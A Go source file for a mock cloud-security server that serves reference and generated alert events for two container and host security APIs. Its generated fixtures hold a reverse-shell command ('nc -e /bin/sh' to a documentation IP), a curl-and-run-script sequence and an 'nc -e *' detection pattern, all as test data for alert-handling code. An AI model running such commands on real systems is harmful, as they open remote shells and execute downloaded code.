@@ -1,0 +1,272 @@
+package localcloud
+
+import (
+	"encoding/json"
+	"fmt"
+	"sort"
+	"strconv"
+	"time"
+)
+
+// TCSSReferenceEventID is the event id of the TCSS API reference's example.
+const TCSSReferenceEventID = "5202566"
+
+// TCSSSparseEventID is an event whose optional fields are all absent.
+const TCSSSparseEventID = "sparse-0001"
+
+// HSSReferenceEventID is the event id of the HSS API reference's example.
+const HSSReferenceEventID = "4517fc****-a0ad-11ef-9ac9-********"
+
+// tcssReferenceResponse is the reference's example response, verbatim but for
+// the envelope, which the server adds.
+const tcssReferenceResponse = `{
+        "AncestorProcessInfo": {
+            "ProcessParam": "-port 22",
+            "ProcessPath": "/usr/local/bin/sshd",
+            "ProcessStartUser": "root",
+            "ProcessUserGroup": "root"
+        },
+        "EventBaseInfo": {
+            "ClientIP": "106.55.163.***",
+            "ClusterID": "cls-13nfdn****",
+            "ClusterName": "demo-dev",
+            "ContainerId": "1***5fe59dbd61071f16d6165480d381********",
+            "ContainerIsolateOperationSrc": "system",
+            "ContainerName": "/adoring_ishizaka",
+            "ContainerNetStatus": "NORMAL",
+            "ContainerNetSubStatus": "NONE",
+            "EventCount": 2,
+            "EventId": "10302329",
+            "EventName": "异常进程事件-告警",
+            "EventType": "FILE_ABNORMAL_READ",
+            "FoundTime": "2024-10-21 15:55:45",
+            "HostID": "1414-18a1-4775-9e3f-cdfc898********",
+            "HostIP": "172.16.0.34",
+            "ImageId": "sha256:1413413431fd9255658c128086395d3********",
+            "ImageName": "alpine:latest",
+            "LatestFoundTime": "2024-10-21 20:57:12",
+            "Namespace": "default",
+            "NodeID": "d41d8cd98f00******",
+            "NodeName": "d41d8cd98f00*****",
+            "NodeSubNetCIDR": "fe80::8132:1b51:52******",
+            "NodeSubNetID": "sub-fn4nf***",
+            "NodeSubNetName": "dev",
+            "NodeType": "NORMAL",
+            "NodeUniqueID": "fe8dfjf2d2****",
+            "PodIP": "1.1.1.1",
+            "PodName": "pod-dev",
+            "PodStatus": "RUNNING",
+            "Status": "EVENT_DEALED",
+            "WorkloadType": "StatefulSet"
+        },
+        "EventDetail": {
+            "Description": "检测到疑似反弹shell命令执行",
+            "GroupName": "SYSTEM_DEFINED_RULE",
+            "MatchRule": {
+                "ProcessPath": "/usr/bin",
+                "RuleId": "100000000000000000000004",
+                "RuleLevel": "HIGH",
+                "RuleMode": "RULE_MODE_ALERT"
+            },
+            "OperationTime": "2024-10-23 17:38:12",
+            "Remark": "for dev",
+            "RuleId": "124",
+            "RuleName": "REVERSE_SHELL",
+            "Solution": "排查反弹shell行为及目标地址是否为业务正常需要"
+        },
+        "ParentProcessInfo": {
+            "ProcessId": 330852,
+            "ProcessName": "containerd-shim",
+            "ProcessParam": "containerd-shim -namespace moby -workdir /data/kubernetes/docker/containerd/daemon/io.containerd.runtime.v1.linux/moby/ /var/run/docker/runtime-runc",
+            "ProcessPath": "/usr/bin/containerd-shim",
+            "ProcessStartUser": "root",
+            "ProcessUserGroup": "root"
+        },
+        "ProcessInfo": {
+            "ProcessAuthority": "-rwxr-xr-x",
+            "ProcessId": 2907621,
+            "ProcessMd5": "8a5772dee965c8223aebc1225e*****",
+            "ProcessName": "xenoncli",
+            "ProcessParam": "xenoncli xenon ping",
+            "ProcessPath": "/usr/local/bin/xenoncli",
+            "ProcessStartUser": "root",
+            "ProcessTree": "xenoncli(2907621)|containerd-shim(330852)|containerd(17863)|dockerd(17838)|systemd(1)",
+            "ProcessUserGroup": "0"
+        }
+}`
+
+// tcssSparseResponse has only an event id: every other field is absent, and
+// one object is an explicit null.
+const tcssSparseResponse = `{
+        "EventBaseInfo": {"EventId": "sparse-0001"},
+        "ProcessInfo": {"ProcessName": "sh", "ProcessTree": null},
+        "EventDetail": null
+}`
+
+// hssReferenceEvent is the reference's example event, verbatim, with its
+// process list under process_info_list as the reference shows it.
+const hssReferenceEvent = `{ "severity" : "High", "event_id" : "4517fc****-a0ad-11ef-9ac9-********", "event_class_id" : "appwl_1001", "event_type" : 3040, "event_name" : "Untrusted process running", "host_id" : "4517fc**-be4f-4cbe-9467-******", "attack_phase" : "installation", "attack_tag" : "abnormal_behavior", "occur_time" : 1731385152000, "handle_status" : "unhandled", "operate_accept_list" : [ "add_to_app_whitelist" ], "operate_detail_list" : [ { "agent_id" : "3ed2e2aa24b******1231324********8c28f59cae2780e7bf6adf4e", "process_pid" : 1549, "file_path" : "/usr/bin/login" } ], "resource_info" : { "project_id" : "84b52****e489fa6549888832dc62", "enterprise_project_id" : "0", "region_name" : "cn-north-7", "host_name" : "ecs-hce", "host_ip" : "192.168.0.178", "public_ip" : "100.93.9.43", "host_id" : "2c9****09-be4f-4cbe-9467-73b****8e48f", "asset_value" : "common", "cloud_id" : "", "vm_name" : "ecs-hce", "vm_uuid" : "2c****e09-be4f-4cbe-9467-73b80****e48f", "os_type" : "Linux", "os_name" : "HCE", "os_version" : "2.0" }, "process_info_list" : [ { "process_name" : "login", "process_path" : "/usr/bin/login", "process_pid" : 1549, "process_uid" : 0, "process_cmdline" : "login -- root", "process_filename" : "login", "process_start_time" : 1719820957, "parent_process_name" : "systemd", "parent_process_path" : "/usr/lib/systemd/systemd", "parent_process_pid" : 1, "parent_process_cmdline" : "/usr/lib/systemd/systemd --switched-root --system --deserialize 16", "process_file_hash" : "d0364db3f6****d969c4475705d57154df518d0560****21abd34ca" } ] }`
+
+// TCSSGeneratedEventID names the i-th generated TCSS event (from 1).
+func TCSSGeneratedEventID(i int) string { return fmt.Sprintf("evt-%05d", i) }
+
+// tcssLevels cycles over generated events: event i has level tcssLevels[i%3].
+var tcssLevels = []string{"HIGH", "MEDIUM", "LOW"}
+
+// TCSSGeneratedRuleLevel is the match_rule.rule_level of the i-th generated event.
+func TCSSGeneratedRuleLevel(i int) string { return tcssLevels[i%len(tcssLevels)] }
+
+// TCSSGeneratedProcessID is the process id of the i-th generated event.
+func TCSSGeneratedProcessID(i int) int64 { return 100000 + int64(i) }
+
+func generateTCSSEvent(i int) map[string]any {
+	id := TCSSGeneratedEventID(i)
+	pid := TCSSGeneratedProcessID(i)
+	found := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Minute)
+	return map[string]any{
+		"EventBaseInfo": map[string]any{
+			"EventId": id, "FoundTime": found.Format(time.DateTime), "ContainerId": "c-" + id,
+			"ContainerName": "/app-" + strconv.Itoa(i), "ImageId": "sha256:" + id, "ImageName": "nginx:1.27",
+			"NodeName": "node-" + strconv.Itoa(i%7), "Status": "EVENT_UNDEAL", "EventName": "abnormal process",
+			"EventType": "PROCESS_START", "EventCount": i%5 + 1,
+			"LatestFoundTime": found.Add(time.Hour).Format(time.DateTime), "HostIP": fmt.Sprintf("10.0.%d.%d", i/250, i%250+1),
+			"ClientIP": "203.0.113.9", "ContainerNetStatus": "NORMAL", "ContainerNetSubStatus": "NONE",
+			"ContainerIsolateOperationSrc": "user", "NodeID": "ins-" + id, "NodeType": "NORMAL",
+			"NodeSubNetID": "subnet-1", "NodeSubNetName": "default", "NodeSubNetCIDR": "10.0.0.0/16",
+			"PodName": "pod-" + id, "PodIP": "172.20.0.5", "PodStatus": "RUNNING", "ClusterID": "cls-local",
+			"ClusterName": "local", "NodeUniqueID": "uniq-" + id, "HostID": "host-" + id, "Namespace": "default",
+			"WorkloadType": "Deployment", "ContainerStatus": "RUNNING",
+		},
+		"ProcessInfo": map[string]any{
+			"ProcessName": "nc", "ProcessAuthority": "-rwxr-xr-x", "ProcessId": pid, "ProcessStartUser": "root",
+			"ProcessUserGroup": "root", "ProcessPath": "/usr/bin/nc",
+			"ProcessTree": fmt.Sprintf("nc(%d)|bash(%d)|containerd-shim(900)|systemd(1)", pid, pid-1),
+			"ProcessMd5":  "d41d8cd98f00b204e9800998ecf8427e", "ProcessParam": "nc -e /bin/sh 198.51.100.7 4444",
+		},
+		"ParentProcessInfo": map[string]any{
+			"ProcessName": "bash", "ProcessId": pid - 1, "ProcessStartUser": "root", "ProcessUserGroup": "root",
+			"ProcessPath": "/bin/bash", "ProcessParam": "bash -i",
+		},
+		"AncestorProcessInfo": map[string]any{
+			"ProcessStartUser": "root", "ProcessUserGroup": "root", "ProcessPath": "/usr/bin/containerd-shim",
+			"ProcessParam": "-namespace k8s.io",
+		},
+		"EventDetail": map[string]any{
+			"Description": "reverse shell suspected", "Solution": "check the destination", "Remark": "generated",
+			"RuleName": "REVERSE_SHELL", "RuleId": "124", "OperationTime": found.Add(2 * time.Hour).Format(time.DateTime),
+			"GroupName": "SYSTEM_DEFINED_RULE",
+			"MatchRule": map[string]any{
+				"ProcessPath": "/usr/bin/nc", "RuleMode": "RULE_MODE_ALERT", "CmdLine": "nc -e *",
+				"RuleId": "rule-" + strconv.Itoa(i%4), "RuleLevel": TCSSGeneratedRuleLevel(i),
+			},
+		},
+	}
+}
+
+// hssEvent is one HSS event as the server stores it: the fields it filters on,
+// and the JSON it serves.
+type hssEvent struct {
+	id, hostName, hostIP, privateIP, handleStatus, enterpriseProject string
+	occurTime                                                        int64
+	raw                                                              json.RawMessage
+}
+
+// HSSSeverities cycles over generated events: event i has severity HSSSeverities[i%5].
+var HSSSeverities = []string{"Security", "Low", "Medium", "High", "Critical"}
+
+// HSSHostNames cycles over generated events: event i is on host HSSHostNames[i%4].
+var HSSHostNames = []string{"web-1", "web-2", "db-1", "batch-1"}
+
+// HSSGeneratedPrivateIP is the private_ip of hosts HSSHostNames[h].
+func HSSGeneratedPrivateIP(h int) string { return fmt.Sprintf("192.168.10.%d", h+10) }
+
+// HSSGeneratedHostIP is the resource_info.host_ip of hosts HSSHostNames[h].
+func HSSGeneratedHostIP(h int) string { return fmt.Sprintf("10.20.0.%d", h+10) }
+
+// HSSGeneratedHandleStatus is the handle_status of the i-th generated event:
+// every third event is handled.
+func HSSGeneratedHandleStatus(i int) string {
+	if i%3 == 0 {
+		return "handled"
+	}
+	return "unhandled"
+}
+
+// generateHSSEvents makes n events spread evenly over (from, to], newest
+// first, every field of the response filled in.
+func generateHSSEvents(n int, from, to time.Time, enterpriseProject string) []hssEvent {
+	out := make([]hssEvent, 0, n)
+	span := to.Sub(from)
+	for i := range n {
+		occur := to.Add(-time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).UnixMilli()
+		out = append(out, generateHSSEvent(i, occur, enterpriseProject))
+	}
+	return out
+}
+
+func generateHSSEvent(i int, occur int64, enterpriseProject string) hssEvent {
+	h := i % len(HSSHostNames)
+	id := fmt.Sprintf("hss-%06d-%d", i, occur)
+	status := HSSGeneratedHandleStatus(i)
+	ev := map[string]any{
+		"event_id": id, "event_class_id": "appwl_1001", "event_type": 3040, "event_name": "Untrusted process running",
+		"severity": HSSSeverities[i%len(HSSSeverities)], "host_name": HSSHostNames[h], "host_id": fmt.Sprintf("host-%d", h),
+		"private_ip": HSSGeneratedPrivateIP(h), "public_ip": fmt.Sprintf("100.93.9.%d", h+1),
+		"attack_phase": "installation", "attack_tag": "abnormal_behavior", "occur_time": occur,
+		"handle_status": status, "handle_method": "add_to_app_whitelist",
+		"operate_accept_list": []string{"add_to_app_whitelist", "ignore"},
+		"operate_detail_list": []map[string]any{{
+			"agent_id": fmt.Sprintf("agent-%d", h), "process_pid": 1000 + i%30000, "file_hash": "e3b0c442",
+			"file_path": "/usr/bin/curl", "file_attr": "-rwxr-xr-x", "private_ip": HSSGeneratedPrivateIP(h),
+			"login_ip": "203.0.113.5", "login_user_name": "root",
+		}},
+		"resource_info": map[string]any{
+			"domain_id": "domain-local", "project_id": "project-local", "enterprise_project_id": enterpriseProject,
+			"region_name": "cn-north-4", "vpc_id": "vpc-1", "cloud_id": "cloud-1", "vm_name": HSSHostNames[h],
+			"vm_uuid": fmt.Sprintf("uuid-%d", h), "container_id": "ctr-1", "image_id": "img-1", "image_name": "nginx:1.27",
+			"host_attr": "ecs", "service": "web", "micro_service": "frontend", "sys_arch": "x86_64", "os_bit": "64",
+			"os_type": "Linux", "os_name": "EulerOS", "host_name": HSSHostNames[h], "host_ip": HSSGeneratedHostIP(h),
+			"public_ip": fmt.Sprintf("100.93.9.%d", h+1), "host_id": fmt.Sprintf("host-%d", h), "pod_uid": "pod-uid-1",
+			"pod_name": "pod-1", "namespace": "default", "cluster_id": "cce-1", "cluster_name": "prod",
+			"asset_value": "important", "container_status": "running", "os_version": "2.10", "agent_version": "3.2.10",
+		},
+		"recommendation": "Add the process to the whitelist if it is expected.",
+		"process_info": []map[string]any{{
+			"process_name": "curl", "process_path": "/usr/bin/curl", "process_pid": 1000 + i%30000, "process_uid": 0,
+			"process_username": "root", "process_cmdline": "curl http://198.51.100.7/x.sh", "process_filename": "curl",
+			"process_start_time": occur - 5000, "process_gid": 0, "process_egid": 0, "process_euid": 0,
+			"parent_process_name": "bash", "parent_process_path": "/bin/bash", "parent_process_pid": 999,
+			"parent_process_uid": 0, "parent_process_cmdline": "bash -i", "parent_process_filename": "bash",
+			"parent_process_start_time": occur - 60000, "parent_process_gid": 0, "parent_process_egid": 0,
+			"parent_process_euid": 0, "child_process_name": "sh", "child_process_path": "/bin/sh",
+			"child_process_pid": 2000 + i%30000, "child_process_uid": 0, "child_process_cmdline": "sh x.sh",
+			"child_process_filename": "sh", "child_process_start_time": occur - 1000, "child_process_gid": 0,
+			"child_process_egid": 0, "child_process_euid": 0, "virt_cmd": "none", "virt_process_name": "none",
+			"escape_mode": "none", "escape_cmd": "none", "process_hash": "9f86d081", "mode": "0755", "rule": 7,
+			"score": 80, "process_file_hash": "60303ae2", "parent_process_file_hash": "fd61a03a",
+			"ancestor_process_pid": 1, "ancestor_process_cmdline": "/sbin/init", "ancestor_process_path": "/sbin/init",
+			"operate_type": 1, "session_id": 4242,
+		}},
+		"policy_id": "policy-1", "policy_name": "default", "os_type": "Linux", "asset_value": "important",
+		"host_status": "ACTIVE", "agent_status": "online", "protect_status": "opened",
+	}
+	if status == "handled" {
+		ev["handle_time"] = occur + 3_600_000
+	}
+	raw, _ := json.Marshal(ev)
+	return hssEvent{
+		id: id, hostName: HSSHostNames[h], hostIP: HSSGeneratedHostIP(h), privateIP: HSSGeneratedPrivateIP(h),
+		handleStatus: status, enterpriseProject: enterpriseProject, occurTime: occur, raw: raw,
+	}
+}
+
+func hssReference() hssEvent {
+	return hssEvent{
+		id: HSSReferenceEventID, hostName: "ecs-hce", hostIP: "192.168.0.178", handleStatus: "unhandled",
+		enterpriseProject: "0", occurTime: 1731385152000, raw: json.RawMessage(hssReferenceEvent),
+	}
+}
+
+func sortNewestFirst(events []hssEvent) {
+	sort.SliceStable(events, func(a, b int) bool { return events[a].occurTime > events[b].occurTime })
+}
